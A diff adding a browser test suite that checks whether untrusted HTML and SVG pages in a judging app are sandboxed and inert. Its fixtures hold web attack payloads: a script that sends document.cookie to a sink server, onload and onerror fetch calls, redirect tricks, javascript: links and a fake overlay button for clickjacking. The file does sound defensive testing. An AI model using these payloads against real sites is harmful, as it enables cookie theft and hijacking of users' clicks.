@@ -1,0 +1,208 @@
+"""A stranger's page that tries everything: it runs nothing, sends nothing, leads nowhere."""
+
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from typing import Any
+
+import httpx
+import pytest
+from playwright.sync_api import BrowserContext, Page, expect
+
+from app.db.models import Document, StudyFile
+from tests.browser.desks import Body, Desk, Site, answered, frame_of, make_desk, saved
+from tests.factories import make_content
+
+pytestmark = pytest.mark.browser
+SVG = """<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="document.title='ran'">
+<script>parent.document.title = 'ran'; fetch('{sink}/svg')</script><rect width="40" height="40"/>
+<a href="{sink}/svg-link"><text y="20">svg</text></a><image href="{sink}/svg-image"/></svg>"""
+HOSTILE = """<!doctype html><html><head><title>tulips</title>
+<meta http-equiv="refresh" content="0;url={sink}/refresh">
+<base href="{sink}/base/" target="_top">
+<link rel="stylesheet" href="{sink}/style.css"><link rel="preconnect" href="{sink}">
+<link rel="dns-prefetch" href="{sink}"><link rel="prefetch" href="{sink}/prefetch">
+<link rel="preload" as="image" href="{sink}/preload"><link rel="icon" href="{sink}/icon">
+<style>@import url({sink}/import.css); body {{ background: url({sink}/background) }}
+@font-face {{ font-family: f; src: url({sink}/font) }} p {{ font-family: f }}</style>
+<script>parent.document.title = 'ran'; new Image().src = '{sink}/script?' + document.cookie</script>
+<script src="{sink}/outside.js"></script></head>
+<body onload="document.title='ran'; fetch('{sink}/onload')">
+<p>A page about tulips.</p>
+<img src="{sink}/image"><img src="x" onerror="fetch('{sink}/onerror')">
+<svg onload="fetch('{sink}/inline-svg')"><script>fetch('{sink}/inline-svg-script')</script></svg>
+<iframe src="{sink}/frame"></iframe><object data="{sink}/object"></object>
+<embed src="{sink}/embed"><video src="{sink}/video" poster="{sink}/poster" autoplay></video>
+<form id="form" action="{sink}/form" method="post"><input name="a"><button id="send">Send</button></form>
+<form action="/sign-out" method="post"><button id="out">Sign out</button></form>
+<p><a id="plain" href="{sink}/plain">plain</a> <a id="top" target="_top" href="{sink}/top">top</a>
+<a id="blank" target="_blank" href="{sink}/blank">blank</a> <a id="ping" ping="{sink}/ping" href="#here">ping</a>
+<a id="js" href="javascript:parent.document.title='ran'">js</a>
+<a id="data" href="data:text/html,<script>parent.document.title='ran'</script>">data</a></p>
+<p id="here">Here.</p>
+<div style="position:fixed;inset:auto 0 0;height:120px;background:#fff;z-index:9">
+<button id="fake" onclick="parent.document.title='ran'">Left is better</button></div>
+</body></html>"""
+
+
+class Sink:
+    """A server elsewhere that notes whoever connects to it and whatever is asked of it."""
+
+    def __init__(self) -> None:
+        sink = self
+        self.asked: list[str] = []
+        self.connections = 0
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                sink.asked.append(self.path)
+                self.send_response(200)
+                self.end_headers()
+
+            do_POST = do_GET
+
+            def log_message(self, *_: Any) -> None:
+                """Say nothing."""
+
+        class Server(ThreadingHTTPServer):
+            def get_request(self) -> Any:
+                sink.connections += 1
+                return super().get_request()
+
+        self.server = Server(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_port}"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def is_untouched(self) -> bool:
+        assert self.asked == []
+        assert self.connections == 0
+        return True
+
+
+@pytest.fixture
+def sink() -> Iterator[Sink]:
+    sink = Sink()
+    yield sink
+    sink.server.shutdown()
+    sink.server.server_close()
+
+
+@pytest.fixture
+def desk(site: Site, sink: Sink) -> Desk:
+    bodies = [
+        Body(HOSTILE.format(sink=sink.url) + f"<!-- {number} -->", "text/html")
+        for number in range(4)
+    ]
+    desk = make_desk(site, pages=bodies)
+    with site.sessions.write.begin() as session:
+        content = make_content(session, SVG.replace("{sink}", sink.url), "image/svg+xml")
+        session.add(StudyFile(study_id=desk.study.id, path="pages/evil.svg", content_hash=content.hash))
+        script = make_content(session, "document.title = 'ran'", "text/javascript")
+        session.add(StudyFile(study_id=desk.study.id, path="pages/evil.js", content_hash=script.hash))
+    return desk
+
+
+def sources(page: Page) -> list[str]:
+    return [str(frame.url) for frame in page.frames[1:]]
+
+
+def test_in_its_frame_it_is_inert(desk: Desk, sink: Sink, context: BrowserContext) -> None:
+    page = desk.sit_down(context)
+    title = page.title()
+    shown = frame_of(page, "left")
+    expect(shown.get_by_text("A page about tulips.")).to_be_visible()
+    page.wait_for_timeout(500)
+    before = sources(page)
+    for name in ("plain", "top", "blank", "js", "data", "ping", "send", "out"):
+        shown.locator(f"#{name}").click(force=True)
+        page.wait_for_timeout(100)
+    shown.locator("#plain").click(button="middle", force=True)
+    shown.locator("#plain").click(modifiers=["Control"], force=True)
+    shown.locator("#plain").focus()
+    page.keyboard.press("Enter")
+    shown.locator("#fake").click(force=True)
+    page.wait_for_timeout(400)
+    assert sources(page) == before
+    assert page.title() == title
+    assert page.url == desk.url
+    assert len(context.pages) == 1
+    assert sink.is_untouched()
+    assert desk.log() == []
+    page.reload()
+    expect(page.get_by_role("button", name="Left is better", exact=True)).to_be_visible()
+    assert "/sign-in" not in page.url
+
+
+def test_the_real_answers_are_outside_its_reach(desk: Desk, context: BrowserContext) -> None:
+    page = desk.sit_down(context)
+    bar = page.locator("#answers").bounding_box()
+    assert bar is not None
+    for side in ("left", "right"):
+        frame = page.locator(f"#{side}-frames iframe:not(.frame--next)").bounding_box()
+        assert frame is not None
+        assert frame["y"] + frame["height"] <= bar["y"] + 1
+    page.get_by_role("button", name="Left is better", exact=True).click()
+    answered(page, 1)
+    saved(page)
+    assert desk.log() == [("answer", "left")]
+
+
+def addresses(page: Page) -> tuple[str, str]:
+    """The address of a page under judgment, and of a picture beside it."""
+    source = str(page.locator("#left-frames iframe").first.get_attribute("src"))
+    return source, source.rsplit("/", 1)[0] + "/evil.svg"
+
+
+def test_opened_in_a_tab_of_its_own_it_is_as_inert(
+    desk: Desk, sink: Sink, context: BrowserContext
+) -> None:
+    for address in addresses(desk.sit_down(context)):
+        tab = context.new_page()
+        tab.goto(desk.site.server.url + address)
+        tab.wait_for_timeout(600)
+        url, title = tab.url, tab.title()
+        for name in ("plain", "top", "blank", "js", "data", "send"):
+            if tab.locator(f"#{name}").count():
+                tab.locator(f"#{name}").click(force=True)
+                tab.wait_for_timeout(100)
+        assert tab.url == url
+        assert tab.title() == title != "ran"
+        tab.close()
+    assert len(context.pages) == 1
+    assert sink.is_untouched()
+
+
+def test_every_file_of_a_study_carries_the_same_chains(desk: Desk, context: BrowserContext) -> None:
+    page, picture = addresses(desk.sit_down(context))
+    script = picture.replace("evil.svg", "evil.js")
+    wanted = (
+        "sandbox allow-same-origin; default-src 'none'; img-src 'self' data:; "
+        "style-src 'self' 'unsafe-inline'; font-src 'self' data:; form-action 'none'; "
+        "base-uri 'none'; frame-ancestors 'self'"
+    )
+    kinds = {page: "text/html", picture: "image/svg+xml", script: "text/plain"}
+    with httpx.Client(base_url=desk.site.server.url) as client:  # no cookie is needed
+        for address, kind in kinds.items():
+            answer = client.get(address)
+            assert answer.status_code == 200
+            assert answer.headers["content-security-policy"] == wanted
+            assert answer.headers["x-content-type-options"] == "nosniff"
+            assert answer.headers["content-type"].startswith(kind)
+            assert answer.headers["cache-control"].startswith("private, max-age=")
+            assert "set-cookie" not in answer.headers
+        token = page.split("/")[2]
+        assert client.get(page.replace(token, token[:-2] + "xx")).status_code == 403
+        assert client.get(page.replace(token, "made-up")).status_code == 403
+        assert client.get(page.rsplit("/", 1)[0] + "/none.svg").status_code == 404
+
+
+def test_a_link_opens_one_study_and_no_other(desk: Desk, site: Site, context: BrowserContext) -> None:
+    other = make_desk(site)
+    page, _ = addresses(desk.sit_down(context))
+    with site.sessions.write.begin() as session:
+        content = make_content(session, "secret of another study")
+        session.add(StudyFile(study_id=other.study.id, path="pages/x.txt", content_hash=content.hash))
+        assert session.get(Document, 1) is not None
+    answer = httpx.get(desk.site.server.url + page.rsplit("/", 1)[0] + "/x.txt")
+    assert answer.status_code == 404
+    assert "secret" not in answer.text
